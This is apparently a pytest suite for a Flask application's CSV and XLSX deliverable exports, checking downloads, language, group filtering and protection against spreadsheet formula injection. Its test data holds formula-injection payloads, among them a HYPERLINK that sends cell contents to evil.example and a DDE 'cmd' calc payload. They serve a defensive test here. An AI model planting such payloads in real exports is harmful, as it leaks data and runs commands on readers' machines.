"""CSV and XLSX exports: they open, they are in the reader's language, and formula-safe."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime

import pytest
import time_machine
from flask_babel import force_locale, gettext
from openpyxl import load_workbook

from app.auth.models import SiteRole
from app.deliverables import exports
from app.deliverables.models import DeliverableStatus
from app.extensions import db
from app.groups.models import GroupRole
from app.organisations.models import Organisation

#: Text a spreadsheet would run as a formula if it were left as it is.
DANGEROUS = {
    "title_en": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "responsible": "+Mallory",
    "organisation": "@SUM(1+1)*cmd|' /C calc'!A0",
    "package": "-2+3",
}


@pytest.fixture
def frozen():
    with time_machine.travel(datetime(2021, 6, 15, 10, 0), tick=False):
        yield


@pytest.fixture
def data(make_group, make_user, add_member, make_deliverable, frozen):
    group = make_group(code="WG2", slug="wg2", name_en="Innovation and market")
    other = make_group(code="WG3", slug="wg3")
    mallory = make_user(name=DANGEROUS["responsible"])
    add_member(mallory, group, GroupRole.MEMBER)
    organisation = Organisation(name_en=DANGEROUS["organisation"], country="DK")
    db.session.add(organisation)
    db.session.commit()
    late = make_deliverable(
        group,
        code="D2.3",
        title_en=DANGEROUS["title_en"],
        title_zh="大数据监管环境",
        work_package="WP2",
        due_on=date(2021, 5, 31),
        status=DeliverableStatus.IN_PROGRESS,
        responsible=mallory,
        lead_organisation=organisation,
    )
    tabbed = make_deliverable(
        group,
        code="D2.4",
        title_en="\tTabbed title",
        title_zh="\r回车开头",
        work_package="WP2",
        due_month=20,
    )
    elsewhere = make_deliverable(other, code="D3.1", title_en="Another group's", work_package="WP3")
    return {"group": group, "late": late, "tabbed": tabbed, "elsewhere": elsewhere}


@pytest.fixture
def coordinator(make_user):
    return make_user(site_role=SiteRole.COORDINATOR)


def read_csv(response) -> list[list[str]]:
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def test_neutralise():
    """Cells that begin like a formula get a leading quote; everything else is left alone."""
    for text in ("=1+1", "+1", "-1", "@A1", "\tx", "\rx"):
        assert exports.neutralise(text) == "'" + text
    for value in ("D2.3", "Plain text", "", 12, None, date(2021, 6, 30), "a=b", "中文"):
        assert exports.neutralise(value) == value


def test_csv_export_is_an_attachment_and_formula_safe(client, login_as, data, coordinator):
    """The CSV downloads as a file, has every deliverable, and no cell can run as a formula."""
    login_as(coordinator)
    response = client.get("/deliverables/export.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"] == (
        'attachment; filename="deliverables-2021-06-15.csv"'
    )
    rows = read_csv(response)
    heading, body = rows[0], rows[1:]
    assert heading[:3] == ["Code", "Title", "Working group"]
    assert len(heading) == len(exports.COLUMNS)
    assert [row[0] for row in body] == ["D3.1", "D2.3", "D2.4"]
    for row in rows:
        for cell in row:
            assert not cell.startswith(exports.FORMULA_STARTS), cell
    late = dict(zip(heading, body[1], strict=True))
    assert late["Title"] == "'" + DANGEROUS["title_en"]
    assert late["Responsible person"] == "'" + DANGEROUS["responsible"]
    assert late["Lead beneficiary"] == "'" + DANGEROUS["organisation"]
    assert late["Due month"] == "M17"
    assert late["Due date"] == "2021-05-31"
    assert late["Status"] == "In progress"
    assert late["Days overdue"] == "15"
    assert late["Type"] == "R"
    tabbed = dict(zip(heading, body[2], strict=True))
    assert tabbed["Title"] == "'\tTabbed title"
    assert tabbed["Days overdue"] == ""


def test_csv_export_follows_the_filters(client, login_as, data, coordinator):
    """The export holds what the table shows: the late deliverables (of one group)."""
    login_as(coordinator)
    rows = read_csv(client.get("/deliverables/export.csv?state=overdue"))
    assert [row[0] for row in rows[1:]] == ["D3.1", "D2.3"]
    rows = read_csv(client.get("/deliverables/export.csv?state=overdue&group=wg2"))
    assert [row[0] for row in rows[1:]] == ["D2.3"]


def test_group_export_holds_only_the_group(client, login_as, data, make_user, add_member):
    """A group's export is its own deliverables, for any member of the group."""
    reader = make_user()
    add_member(reader, data["group"], GroupRole.OBSERVER)
    login_as(reader)
    response = client.get("/groups/wg2/deliverables/export.csv")
    assert 'filename="deliverables-wg2-2021-06-15.csv"' in response.headers["Content-Disposition"]
    assert [row[0] for row in read_csv(response)[1:]] == ["D2.3", "D2.4"]


def test_export_is_in_the_readers_language(client, login_as, data, coordinator):
    """A Chinese reader gets Chinese titles and the headings of the Chinese catalogue."""
    coordinator.locale = "zh"
    db.session.commit()
    login_as(coordinator)
    rows = read_csv(client.get("/deliverables/export.csv"))
    with client.application.test_request_context(), force_locale("zh"):
        headings = [gettext(str(label._args[0])) for _key, label in exports.COLUMNS]
        in_progress = gettext("In progress")
    assert rows[0] == headings
    late = rows[2]
    assert late[1] == "大数据监管环境"
    assert late[8] == in_progress
    assert rows[3][1] == "'\r回车开头"


def test_xlsx_export_opens_and_holds_no_formula(client, login_as, data, coordinator):
    """The workbook opens; text cells are text (never formulas); dates are dates."""
    login_as(coordinator)
    response = client.get("/deliverables/export.xlsx")
    assert response.status_code == 200
    assert response.mimetype == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert response.headers["Content-Disposition"] == (
        "attachment; filename=deliverables-2021-06-15.xlsx"
    )
    workbook = load_workbook(io.BytesIO(response.get_data()))
    sheet = workbook.active
    rows = list(sheet.iter_rows())
    assert [cell.value for cell in rows[0]][:2] == ["Code", "Title"]
    assert [row[0].value for row in rows[1:]] == ["D3.1", "D2.3", "D2.4"]
    for row in rows:
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
    late = rows[2]
    assert late[1].value == DANGEROUS["title_en"]
    assert late[1].data_type == "s"
    assert late[1].quotePrefix
    assert late[10].value == DANGEROUS["responsible"] and late[10].quotePrefix
    assert late[11].value == DANGEROUS["organisation"] and late[11].quotePrefix
    assert late[7].value.date() == date(2021, 5, 31)
    assert late[9].value == 15
    assert not late[0].quotePrefix


def test_xlsx_export_of_a_group(client, login_as, data, make_user, add_member):
    """A group's workbook is its own deliverables."""
    lead = make_user()
    add_member(lead, data["group"], GroupRole.LEAD)
    login_as(lead)
    response = client.get("/groups/wg2/deliverables/export.xlsx?work_package=WP2")
    sheet = load_workbook(io.BytesIO(response.get_data())).active
    assert [row[0].value for row in sheet.iter_rows(min_row=2)] == ["D2.3", "D2.4"]


def test_export_of_nothing_is_a_heading_row(client, login_as, coordinator, project):
    """With no deliverable the exports still open: only the heading row."""
    login_as(coordinator)
    assert len(read_csv(client.get("/deliverables/export.csv"))) == 1
    sheet = load_workbook(io.BytesIO(client.get("/deliverables/export.xlsx").get_data())).active
    assert sheet.max_row == 1
